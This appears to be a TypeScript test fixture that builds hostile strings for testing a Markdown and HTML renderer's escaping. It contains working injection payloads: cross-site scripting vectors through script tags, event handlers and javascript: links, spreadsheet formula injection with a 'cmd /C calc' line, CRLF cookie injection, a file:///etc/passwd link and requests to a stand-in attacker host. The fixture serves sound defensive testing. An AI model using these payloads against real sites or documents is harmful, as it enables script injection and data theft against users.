/** Where an attack would send what it took. Reserved: it leads nowhere. */
export const ELSEWHERE = 'https://evil.invalid';
/** What an attack that runs calls. */
export const CALL = '__pwned';

/**
 * A text that breaks out of wherever it is put, if anything lets it: a formula of a spreadsheet at its begin and after
 * a semicolon, quotation marks of every kind, ends of all elements that hold raw text, scripts, handlers, pictures and
 * frames from elsewhere, SVG, CDATA, comments, templates, line separators, a mark that turns text around.
 */
export function hostileText(where: string): string {
  const call = `${CALL}('${where}')`;
  return [
    `=HYPERLINK("${ELSEWHERE}/formula","${where}")`,
    `;+1+cmd|' /C calc'!A1`,
    `"><script>${call}</script>`,
    `'><img src="${ELSEWHERE}/${where}" onerror="${call}">`,
    `\`onmouseover=${call} autofocus onfocus=${call} x="`,
    `</title></textarea></style></script></noscript></svg></a></p></template>`,
    `<svg onload="${call}"><animate onbegin="${call}" attributeName="x" dur="1s"/><style>@import "${ELSEWHERE}/css"</style></svg>`,
    `<iframe srcdoc="<script>parent.${call}</script>"></iframe><base href="${ELSEWHERE}/">`,
    `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}/meta"><form action="${ELSEWHERE}"><button autofocus>x`,
    `--><!--]]><![CDATA[ &lt;script&gt;${call}&lt;/script&gt; &amp; \\u003cscript\\u003e \${${call}} {{${call}}}`,
    `[x](javascript:${call}) ![x](${ELSEWHERE}/markdown.png) <${ELSEWHERE}/auto>`,
    `\u2028\u202eabc\u202c \u0001\uffff\ud800 \\ %0d%0aSet-Cookie:%20a=1`,
  ].join(' ');
}

/** An address that runs something where it is followed, and breaks out where it is printed. */
export function hostileAddress(where: string): string {
  return `javascript:${CALL}('${where}')//"><img src=x onerror=${CALL}('${where}')>`;
}

/** A body of Markdown that tries what Markdown lets one try. The claim `c1` is cited once. */
export const HOSTILE_BODY = `
It was [so](#c1). ${hostileText('body').replaceAll('\u0001', '').replaceAll('\ud800', '')}

## Heading "><script>${CALL}('heading')</script> {#x onclick=${CALL}('heading')}

[script](javascript:${CALL}('link')) [Script](JaVaScRiPt:${CALL}('link')) [tab](java	script:${CALL}('link'))
[data](data:text/html,<script>${CALL}('data')</script>) [vb](vbscript:${CALL}('vb')) [file](file:///etc/passwd)
[other](//evil.invalid/other) [back](/\\evil.invalid/back) [entity](&#106;avascript:${CALL}('entity'))
[title](https://news.example/ "x\\" onmouseover=${CALL}('title') y=") [definition][d] <javascript:${CALL}('auto')>
![picture](${ELSEWHERE}/picture.png) ![reference][d]

[d]: javascript:${CALL}('definition')

<script>${CALL}('block')</script>

<img src=x onerror=${CALL}('html')>

<div style="background:url(${ELSEWHERE}/style)" onclick="${CALL}('div')">raw</div>

| <img src=x onerror=${CALL}('th')> | [cell](javascript:${CALL}('td')) |
| --- | --- |
| \`</code><script>${CALL}('code')</script>\` | ${ELSEWHERE}/bare |

\`\`\`html" onload="${CALL}('info')
</code></pre><script>${CALL}('fence')</script>
\`\`\`

A note.[^1] - [ ] a task

[^1]: <script>${CALL}('note')</script> [x](javascript:${CALL}('note'))
`;
